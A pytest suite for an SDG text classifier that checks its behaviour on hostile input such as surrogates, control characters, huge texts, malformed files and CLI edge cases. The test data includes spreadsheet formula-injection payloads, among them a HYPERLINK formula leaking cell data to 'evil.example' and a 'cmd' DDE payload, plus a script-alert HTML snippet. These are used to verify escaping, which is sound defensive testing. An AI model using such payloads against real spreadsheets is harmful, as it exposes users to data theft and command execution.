"""Hostile and odd input, through the API, the text pipeline, files and the CLI .

Each case asserts the documented behaviour (README, "Limits and behaviour on odd input"):
a valid result, or ``TypeError``/``ValueError`` with its code; in a file, an error row and
never a lost row; offsets always exact (``text[start:end] == evidence.text``). The HTTP
service has its own cases.
"""

import csv
import json
import signal
import warnings
from contextlib import contextmanager

import pytest
from click.testing import CliRunner

import sdgmap
from sdgmap import Classification, TextProcessor
from sdgmap.cli import cli

SOLAR = "A citizen solar cooperative sells renewable power to its members."
GARDEN_FR = "Un jardin partagé où les habitants cultivent des légumes bio et compostent ensemble."
# A lone surrogate is what bytes decoded with errors="surrogateescape" give (os.fsdecode,
# sys.argv): it has no UTF-8 form.
SURROGATE = "\udcff"

ODD_TEXTS = {
    "empty": "",
    "spaces": "   ",
    "whitespace": "\n\t\r\n\x0b\x0c \u00a0\u2003\u3000",
    "numbers": "2024 - 42 !!! 3.14 1,000.5 +33 6 12 34 56 78 #42 50% 10€ 1/2",
    "only urls": "https://example.org/garden http://x.y/z?a=1&b=2 www.solar.coop mailto:a@b.c",
    "only emoji": "🌱🌍♻️🚲☀️💧 👩‍👩‍👧‍👦 🏳️‍🌈 🇫🇷",
    "html": "<div class='x'><script>alert(1)</script><p>A <b>repair café</b> for broken appliances.</p></div>",
    "html entities": "Caf&eacute; r&eacute;paration &amp; jardin &lt;partag&eacute;&gt; &#128512;",
    "arabic": "مبادرة مجتمعية لزراعة الحدائق المشتركة في الحي وتوزيع الخضروات على الأسر.",
    "hebrew": "גינה קהילתית משותפת לשכונה ואנרגיה סולארית לחברים.",
    "mixed languages": GARDEN_FR + " " + SOLAR + " مبادرة مجتمعية. גינה קהילתית. 社区花园。",
    "bidi controls": "\u202eA shared garden\u202c \u2066for neighbours\u2069. \u200fSolar\u200e energy.",
    "nul bytes": "A shared\x00 garden\x00 for neighbours.\x00 Compost\x00\x00 and bees.",
    "control chars": "Repair\x01 café\x07 for\x1b[31m broken\x7f appliances\x85 and\x9f bikes.",
    "zero width": "A sha\u200bred gar\u200cden for neigh\u200dbours.\u2060 Solar\ufeff energy co-op.",
    "combining": "Une e\u0301picerie solidaire pour les familles. Cafe\u0301 re\u0301paration. Z\u0351\u0352\u0353algo.",
    "zalgo": "g" + "\u0300\u0301\u0302\u0303\u0304" * 200 + "arden solar energy",
    "surrogates": f"Un jardin partagé {SURROGATE} pour le quartier. Compost{SURROGATE}\udcfe collectif. \ud83d énergie solaire.",
    "replacement chars": "Shared \ufffd garden \ufffd\ufffd compost.",
    "private use": "\ue000\uf8ff Solar \U000f0000 energy \U0010fffd cooperative.",
    "noncharacters": "\ufdd0\ufffe\uffff\U0001fffe Solar energy.",
    "line separators": "Shared garden\u2028Solar energy\u2029Repair café\x1c\x1d\x1e end.",
    "one long word": "solar" * 5000,
    "long url": "See https://example.org/" + "a/" * 3000 + " for our solar co-op.",
}


def assert_valid(result: Classification, text: str) -> None:
    """The documented contract of one result, whatever its input."""
    assert isinstance(result, Classification)
    assert len(result.goals) == 17 and sorted(g.goal for g in result.goals) == list(range(1, 18))
    scores = [g.score for g in result.goals]
    assert scores == sorted(scores, reverse=True)
    assert all(0.0 <= s <= 1.0 for s in scores)
    assert result.sdgs == tuple(g.goal for g in result.goals if g.selected)
    assert result.language in ("en", "fr")
    for item in result.evidence:
        assert text[item.start : item.end] == item.text, item
        assert item.goal in result.sdgs
    # JSON output never fails, is valid UTF-8, and reads back as a valid result.
    dumped = result.model_dump_json()
    dumped.encode("utf-8")
    again = Classification.model_validate_json(dumped)
    assert again.goals == result.goals and again.sdgs == result.sdgs
    json.dumps(result.model_dump(mode="json"), ensure_ascii=False).encode("utf-8")


class _TooSlow(BaseException):  # not an Exception: no `except Exception` in the library swallows it
    pass


@contextmanager
def within(seconds: float):
    """Fail (instead of hanging the suite) when the block takes longer than ``seconds``."""
    if not hasattr(signal, "setitimer"):  # Windows: no timer signal, run without a limit
        yield
        return

    def _timeout(signum, frame):
        raise _TooSlow

    previous = signal.signal(signal.SIGALRM, _timeout)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    timed_out = False
    try:
        yield
    except _TooSlow:
        # Raised wherever the signal landed (maybe compiled code): report it from here.
        timed_out = True
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
    if timed_out:
        pytest.fail(f"took more than {seconds} s", pytrace=False)


def quiet_classify(model, text, **options):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        return model.classify(text, **options)


# -- the API: odd texts ---------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(ODD_TEXTS))
def test_odd_text_gives_a_valid_result_with_exact_offsets(model, name):
    text = ODD_TEXTS[name]
    result = model.classify(text, evidence=True, systemic=True)
    assert_valid(result, text)
    assert not result.truncated


@pytest.mark.parametrize("name", sorted(ODD_TEXTS))
def test_odd_text_tokens_point_into_the_text(model, name):
    text = ODD_TEXTS[name]
    doc = model.processor.process(text)
    assert doc.text == text
    previous_end = 0
    for start, end in zip(doc.starts, doc.ends):
        assert previous_end <= start < end <= len(text)
        previous_end = end
    for first, last in doc.sentences:
        assert 0 <= first < last <= len(doc)


@pytest.mark.parametrize("name", ["empty", "spaces", "whitespace", "numbers", "only emoji"])
def test_text_without_words_gives_no_goal_and_zero_scores(model, name):
    result = model.classify(ODD_TEXTS[name], evidence=True)
    assert result.sdgs == () and result.evidence == () and result.targets == ()
    assert all(g.score == 0.0 for g in result.goals)


def test_classify_many_reads_odd_texts_like_classify(model):
    texts = [ODD_TEXTS[name] for name in sorted(ODD_TEXTS)]
    many = model.classify_many(texts, evidence=True, batch_size=5)
    assert many == [model.classify(text, evidence=True) for text in texts]


@pytest.mark.parametrize(
    "text, language",
    [
        (ODD_TEXTS["arabic"], "en"),  # any other language is read as English (README)
        (ODD_TEXTS["hebrew"], "en"),
        ("社区花园", "en"),
        (GARDEN_FR + " مبادرة مجتمعية لزراعة الحدائق", "fr"),
        (ODD_TEXTS["only emoji"], "en"),
    ],
)
def test_other_scripts_are_read_as_english_unless_french(model, text, language):
    assert model.classify(text).language == language


def test_html_markup_is_read_as_text(model):
    plain = model.classify("A repair café for broken appliances.")
    marked = model.classify(ODD_TEXTS["html"], evidence=True)
    assert_valid(marked, ODD_TEXTS["html"])
    assert set(plain.sdgs) & set(marked.sdgs)


def test_invisible_characters_do_not_hide_the_topic(model):
    # Zero-width characters and NUL bytes inside a sentence leave its words readable.
    assert 7 in model.classify("A citizen solar\u200b cooperative\x00 sells renewable power\u2060 to members.").sdgs


# -- the API: what is not a text ------------------------------------------------------------


NOT_TEXT = [None, b"bytes", bytearray(b"bytes"), memoryview(b"bytes"), 12, 3.5, float("nan"), True, ["text"],
            ("text",), {"text": "x"}, {"text"}, object()]


@pytest.mark.parametrize("bad", NOT_TEXT, ids=lambda value: type(value).__name__)
def test_non_string_is_a_type_error_everywhere(model, bad):
    with pytest.raises(TypeError, match="E001"):
        model.classify(bad)
    with pytest.raises(TypeError, match="E001"):
        model.classify_many(["fine", bad])
    with pytest.raises(TypeError, match="E001"):
        list(model.pipe(["fine", bad]))
    with pytest.raises(TypeError, match="E001"):
        model.predict_proba(["fine", bad])
    with pytest.raises(TypeError, match="E001"):
        TextProcessor().process(bad)


def test_str_subclasses_are_read_as_their_characters(model):
    import numpy as np

    class Text(str):
        def __str__(self):
            return "something else"

    expected = model.classify(SOLAR, evidence=True)
    assert model.classify(Text(SOLAR), evidence=True) == expected
    # Iterating a numpy array of strings gives numpy.str_ (spaCy's tokenizer refused them).
    assert model.classify_many(np.array([SOLAR, GARDEN_FR]), evidence=True)[0] == expected


@pytest.mark.parametrize("language", ["de", "", "EN", "en ", 123, 1.5])
def test_unknown_language_is_a_value_error(model, language):
    with pytest.raises(ValueError, match="E003"):
        model.classify(SOLAR, language=language)


@pytest.mark.parametrize("language", [["en"], {"en": 1}])
def test_unhashable_language_is_a_value_error(model, language):
    # Bug (sdgmap/lang/__init__.py, get_language): `_REGISTRY[code]` raises a bare
    # "TypeError: unhashable type" for a list or dict. Fix: catch (KeyError, TypeError).
    with pytest.raises(ValueError, match="E003"):
        model.classify(SOLAR, language=language)


@pytest.mark.parametrize("point", ["greedy", "BALANCED", 3, ["balanced"]])
def test_unknown_operating_point_is_a_value_error(model, point):
    # Bug for ["balanced"] (sdgmap/_scoring.py, check_operating_point): `name not in
    # thresholds` raises "TypeError: unhashable type". Fix: test `isinstance(name, str)` first.
    with pytest.raises(ValueError, match="E002"):
        model.classify(SOLAR, operating_point=point)


# -- the API: size ----------------------------------------------------------------------------


def test_ten_megabyte_text_is_truncated_reported_and_fast(model):
    text = (SOLAR + " ") * (10_000_000 // (len(SOLAR) + 1))
    with within(20), warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        result = model.classify(text)
    assert result.truncated and any("W001" in str(w.message) for w in caught)
    assert_valid(result, text)
    # Only the beginning is read: the same result as the first max_length characters.
    beginning = model.classify(text[: model.processor.max_length])
    assert beginning.goals == result.goals and not beginning.truncated


def test_a_million_short_lines(model):
    text = "\n".join(["Solar power", "x", "", "Jardin partagé", "🌱"] * 200_000)
    with within(20), warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        result = model.classify(text, evidence=True)
    assert result.truncated and any("W001" in str(w.message) for w in caught)
    assert_valid(result, text)


LONG_RUNS = {
    "brackets": "(" * 50_000 + ")" * 50_000,
    "emoji": "🌱" * 100_000,
    "punctuation": "!?" * 50_000,
    "quotes": "\"'" * 50_000,
    "combining": "e" + "\u0301" * 99_999,
    "one word": "solar" * 20_000,
}


@pytest.mark.parametrize("name", list(LONG_RUNS))
def test_long_runs_without_spaces_are_read_in_linear_time(model, name):
    text = LONG_RUNS[name]
    # spaCy strips affixes one at a time: one 100,000-character chunk of brackets or emoji
    # took minutes before long chunks were cut (sdgmap/_text.py, _MAX_CHUNK).
    with within(15):
        result = model.classify(text, evidence=True)
    assert_valid(result, text)
    doc = model.processor.process(text)
    assert all(text[s:e] for s, e in zip(doc.starts, doc.ends))
    assert list(doc.starts) == sorted(doc.starts) and (not doc.ends or doc.ends[-1] <= len(text))


EVIDENCE_HEAVY = {
    "one sentence, many lexicon hits": "solar energy " * 7_600,
    "many short sentences": "Solar. " * 14_000,
    "repeated description": "shared garden compost " * 4_500,
    "french": "énergie solaire citoyenne " * 3_800,
}


@pytest.mark.parametrize("name", list(EVIDENCE_HEAVY))
def test_evidence_on_a_long_hostile_text_is_bounded(model, name):
    text = EVIDENCE_HEAVY[name]
    # Every sentence and lexicon hit of an asserted goal is a candidate span: the explainer
    # checks at most a fixed number per goal, so time stays bounded whatever the length.
    assert len(text) <= model.processor.max_length
    with within(5):  # under 1 s each once fixed
        result = model.classify(text, evidence=True)
    assert_valid(result, text)


# -- the API: surrogates ----------------------------------------------------------------------


def test_lone_surrogates_are_read_and_kept_exactly(model):
    text = ODD_TEXTS["surrogates"]
    result = model.classify(text, evidence=True)
    assert_valid(result, text)
    assert result.language == "fr" and result.sdgs
    sentences = [e for e in result.evidence if e.kind == "sentence"]
    assert any(SURROGATE in e.text or "\udcfe" in e.text for e in sentences)  # in Python: the input's characters


def test_lone_surrogates_become_replacement_characters_in_json(model):
    text = f"Shared garden {SURROGATE} compost for the neighbourhood. Solar{SURROGATE} energy co-op for the city."
    result = model.classify(text, evidence=True)
    dumped = result.model_dump_json()
    assert "\ufffd" in dumped and SURROGATE not in dumped
    again = Classification.model_validate_json(dumped)
    for before, after in zip(result.evidence, again.evidence):
        assert (after.start, after.end) == (before.start, before.end)
        assert after.text == before.text.replace(SURROGATE, "\ufffd")


def test_surrogate_escaped_bytes_classify_like_their_replacement(model):
    raw = "Coopérative citoyenne d'énergie solaire ".encode() + b"\xff\xfe" + b" pour le quartier."
    escaped = raw.decode("utf-8", errors="surrogateescape")
    replaced = raw.decode("utf-8", errors="replace")
    assert model.classify(escaped).goals == model.classify(replaced).goals


def test_binary_garbage_decoded_any_way_gives_a_valid_result(model):
    import random

    rng = random.Random(8)
    data = bytes(rng.randrange(256) for _ in range(20_000))
    for text in (data.decode("latin-1"), data.decode("utf-8", "surrogateescape"), data.decode("utf-8", "replace")):
        with within(15):
            result = quiet_classify(model, text, evidence=True)
        assert_valid(result, text)


# -- files ------------------------------------------------------------------------------------


def read_jsonl_output(path):
    # Strict UTF-8: an output file is always valid UTF-8.
    return [json.loads(line) for line in path.read_bytes().decode("utf-8").splitlines()]


def read_csv_output(path):
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def classify(model, source, output, **options):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        return sdgmap.classify_file(model, source, output, **options)


def test_csv_with_invalid_utf8_keeps_every_row(model, tmp_path):
    source = tmp_path / "in.csv"
    source.write_bytes(b"id,text\na1,caf\xe9 solidaire \xff\xfe jardin partag\xc3\n"
                       b"a2,A citizen solar cooperative.\na3,\x80\x81\x82\n")
    out = tmp_path / "out.jsonl"
    summary = classify(model, source, out)
    rows = read_jsonl_output(out)
    assert [r["id"] for r in rows] == ["a1", "a2", "a3"] and summary.rows == 3
    assert all(r["error"] is None and len(r["goals"]) == 17 for r in rows)
    assert 7 in rows[1]["sdgs"]


def test_jsonl_with_invalid_utf8_and_garbage_lines_keeps_every_row(model, tmp_path):
    source = tmp_path / "in.jsonl"
    source.write_bytes(b'{"id": "j1", "text": "caf\xe9 \xff jardin partag\xc3\xa9"}\n'
                       b"\xff\xfe\x00\x01garbage\n"
                       b'{"id": "j3", "text": "A citizen solar cooperative."}\n'
                       + bytes(range(256)).replace(b"\n", b"").replace(b"\r", b"") + b"\n")
    out = tmp_path / "out.csv"
    summary = classify(model, source, out)
    rows = read_csv_output(out)
    assert [r["id"] for r in rows] == ["j1", "2", "j3", "4"] and summary.rows == 4
    assert rows[0]["error"] == "" and rows[2]["error"] == ""
    assert "invalid JSON" in rows[1]["error"] and "invalid JSON" in rows[3]["error"]
    assert len(summary.skipped) == 2


def test_csv_with_nul_bytes_keeps_every_row(model, tmp_path):
    # Python 3.10's csv module raises "line contains NUL" (the whole run stops); 3.11+
    # reads NUL. Fix for 3.10 (sdgmap/_io.py): feed the reader
    # `(line.replace("\x00", "\ufffd") for line in handle)` in _csv_rows and check_columns.
    source = tmp_path / "in.csv"
    source.write_bytes(b"id,text\nn1,A shared\x00 garden\nn2,\x00\x00\x00\nn3,Solar energy co-op\n")
    out = tmp_path / "out.jsonl"
    summary = classify(model, source, out)
    assert [r["id"] for r in read_jsonl_output(out)] == ["n1", "n2", "n3"] and summary.rows == 3


def test_jsonl_id_with_a_lone_surrogate_still_gets_its_row(model, tmp_path):
    # Bug (sdgmap/_io.py): a JSON "\udcff" escape in an id is a lone surrogate; writing it
    # to the UTF-8 output raised UnicodeEncodeError and the whole run was lost. Fix: in
    # result_record, `record = {"id": _SURROGATE.sub("\ufffd", row_id)}` with
    # `_SURROGATE = re.compile("[\ud800-\udfff]")`.
    source = tmp_path / "in.jsonl"
    source.write_text('{"id": "s\\udcff1", "text": "A shared garden."}\n{"id": "s2", "text": "Solar energy."}\n',
                      encoding="utf-8")
    for name in ("out.jsonl", "out.csv"):
        out = tmp_path / name
        summary = classify(model, source, out)
        ids = [r["id"] for r in (read_jsonl_output(out) if name.endswith("jsonl") else read_csv_output(out))]
        assert ids == ["s\ufffd1", "s2"] and summary.rows == 2


def test_jsonl_text_with_lone_surrogates_and_evidence(model, tmp_path):
    source = tmp_path / "in.jsonl"
    text = "Shared garden \\udcff compost for the neighbourhood. Solar\\udcfe energy co-op for the city."
    source.write_text(json.dumps({"id": "e1", "text": "x"}).replace('"x"', f'"{text}"') + "\n", encoding="utf-8")
    out = tmp_path / "out.jsonl"
    classify(model, source, out, evidence=True)
    (row,) = read_jsonl_output(out)
    assert row["error"] is None and row["sdgs"] and row["evidence"]
    decoded = json.loads(f'"{text}"').replace(SURROGATE, "\ufffd").replace("\udcfe", "\ufffd")
    assert all(decoded[e["start"] : e["end"]] == e["text"] for e in row["evidence"])


def test_deeply_nested_json_line_is_an_error_row(model, tmp_path):
    # Bug (sdgmap/_io.py, _jsonl_rows): json.loads raises RecursionError (not a ValueError)
    # on deep nesting, which stopped the run with no output. Fix: catch
    # `(ValueError, RecursionError)` around json.loads.
    source = tmp_path / "in.jsonl"
    source.write_text('{"id": "d1", "text": ' + "[" * 100_000 + "]" * 100_000 + "}\n"
                      + json.dumps({"id": "d2", "text": "Solar energy co-op."}) + "\n", encoding="utf-8")
    out = tmp_path / "out.jsonl"
    summary = classify(model, source, out)
    rows = read_jsonl_output(out)
    assert [r["id"] for r in rows] == ["1", "d2"] and summary.rows == 2
    assert rows[0]["error"] and rows[1]["error"] is None


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_utf8_byte_order_mark_is_not_part_of_the_first_column(model, tmp_path, suffix):
    # Bug (sdgmap/_io.py): Excel's "CSV UTF-8" starts with a BOM, read as part of the first
    # header ("\ufefftext": E004, nothing classified) or of the first JSON line (invalid
    # JSON). Fix: open with encoding="utf-8-sig" in read_rows and check_columns.
    source = tmp_path / f"in{suffix}"
    body = "text,id\nA shared garden,b1\n" if suffix == ".csv" else '{"text": "A shared garden", "id": "b1"}\n'
    source.write_bytes(b"\xef\xbb\xbf" + body.encode("utf-8"))
    out = tmp_path / "out.jsonl"
    summary = classify(model, source, out)
    (row,) = read_jsonl_output(out)
    assert row["id"] == "b1" and row["error"] is None and summary.classified == 1


def test_binary_file_as_csv_is_a_clear_error_and_writes_nothing(model, tmp_path):
    source = tmp_path / "in.csv"
    source.write_bytes(bytes(range(256)) * 8)
    out = tmp_path / "out.jsonl"
    with pytest.raises(ValueError, match="E004"):
        classify(model, source, out)
    assert not out.exists()


def test_big_cell_and_a_million_lines_in_one_cell(model, tmp_path):
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "text"])
        writer.writerow(["big", (SOLAR + " ") * (10_000_000 // (len(SOLAR) + 1))])
        writer.writerow(["lines", "Jardin partagé\n" * 1_000_000])
        writer.writerow(["small", "A repair café."])
    out = tmp_path / "out.csv"
    with within(30):
        summary = classify(model, source, out)
    rows = read_csv_output(out)
    assert [r["id"] for r in rows] == ["big", "lines", "small"] and summary.rows == 3
    assert [r["truncated"] for r in rows] == ["true", "true", "false"]  # one number format: csv_cell


def test_a_million_blank_lines_in_jsonl(model, tmp_path):
    source = tmp_path / "in.jsonl"
    source.write_text("\n" * 500_000 + json.dumps({"id": "m1", "text": "Solar energy co-op."}) + "\n"
                      + "\r\n" * 500_000 + json.dumps({"id": "m2", "text": "Jardin partagé."}) + "\n", encoding="utf-8")
    out = tmp_path / "out.jsonl"
    with within(30):
        summary = classify(model, source, out)
    assert [r["id"] for r in read_jsonl_output(out)] == ["m1", "m2"] and summary.rows == 2


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1", "\r=1", "=1"]


def test_formula_like_cells_are_escaped_in_csv_output(model, tmp_path):
    source = tmp_path / "in.jsonl"
    lines = [json.dumps({"id": formula, "text": "Literacy classes for adults."}) for formula in FORMULAS]
    lines.append(json.dumps({"id": "=ERR()", "text": 42}))  # an error row is escaped too
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    summary = classify(model, source, out)
    rows = read_csv_output(out)
    assert summary.rows == len(FORMULAS) + 1
    assert [r["id"] for r in rows] == ["'" + f for f in FORMULAS] + ["'=ERR()"]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # JSON Lines is data, not a spreadsheet: ids come back unchanged.
    jsonl = tmp_path / "out.jsonl"
    classify(model, source, jsonl)
    assert [r["id"] for r in read_jsonl_output(jsonl)] == FORMULAS + ["=ERR()"]


def test_formula_like_csv_input_cells_are_escaped_in_csv_output(model, tmp_path):
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "text"])
        for formula in FORMULAS:
            writer.writerow([formula, formula])
    out = tmp_path / "out.csv"
    classify(model, source, out)
    assert [r["id"] for r in read_csv_output(out)] == ["'" + f for f in FORMULAS]


# -- the CLI ----------------------------------------------------------------------------------


def test_cli_json_of_a_text_with_lone_surrogates():
    # What `sdgmap classify $'caf\xff ...'` gets from a shell: sys.argv holds "\udcff".
    text = f"Shared gar{SURROGATE}den compost for the neighbourhood. Solar energy co-op {SURROGATE}."
    result = CliRunner().invoke(cli, ["classify", "--json", text])
    assert result.exit_code == 0, result.output
    data = json.loads(result.output)
    assert len(data["goals"]) == 17 and data["evidence"]


def test_cli_odd_texts():
    for name in ("empty", "only emoji", "arabic", "nul bytes", "html"):
        result = CliRunner().invoke(cli, ["classify", "--json", ODD_TEXTS[name].replace("\x00", "")])
        assert result.exit_code == 0, (name, result.output)
        assert len(json.loads(result.output)["goals"]) == 17


def test_cli_stdin_with_invalid_utf8_keeps_every_row():
    # Bug (sdgmap/_batch.py, classify_file with source "-"): stdin is read as text and
    # copied to a UTF-8 temporary file: invalid UTF-8 (or its surrogate escapes) stops the
    # run with UnicodeDecodeError / UnicodeEncodeError. Fix: copy the bytes, e.g.
    # `spooled = tempfile.NamedTemporaryFile("wb", suffix=".jsonl", delete=False)` and
    # `shutil.copyfileobj(sys.stdin.buffer, spooled)` (also streams instead of read()).
    data = b'{"id": "i1", "text": "caf\xe9 \xff jardin partag\xc3\xa9"}\n{"id": "i2", "text": "Solar energy co-op."}\n'
    result = CliRunner().invoke(cli, ["classify", "-"], input=data)
    assert result.exit_code == 0, result.output
    ids = [json.loads(line)["id"] for line in result.stdout.splitlines() if line.startswith("{")]
    assert ids == ["i1", "i2"]


def test_tokenizer_vocabulary_stays_bounded_and_tokens_do_not_change(monkeypatch):
    # spaCy's vocabulary keeps every new string: a service reading the public's text grew
    # without bound (about +18 MiB per 40,000 new words). The tokenizer is now rebuilt
    # past the bound (sdgmap/_text.py), which changes no token.
    from sdgmap.pipeline import _text

    monkeypatch.setattr(_text, "_MAX_CACHED_WORDS", 3000)
    processor = TextProcessor()
    text = "Un jardin partagé, un repair café et une épicerie solidaire. " + ODD_TEXTS["surrogates"]
    before = processor.process(text, language="fr")
    first = processor._tokenizers["fr"]
    for i in range(120):
        processor.process(" ".join(f"mot{i}x{j}" for j in range(50)), language="fr")
        assert len(processor._tokenizers["fr"].vocab.strings) <= 3000 + 200
    assert processor._tokenizers["fr"] is not first  # rebuilt at least once
    assert processor.process(text, language="fr") == before
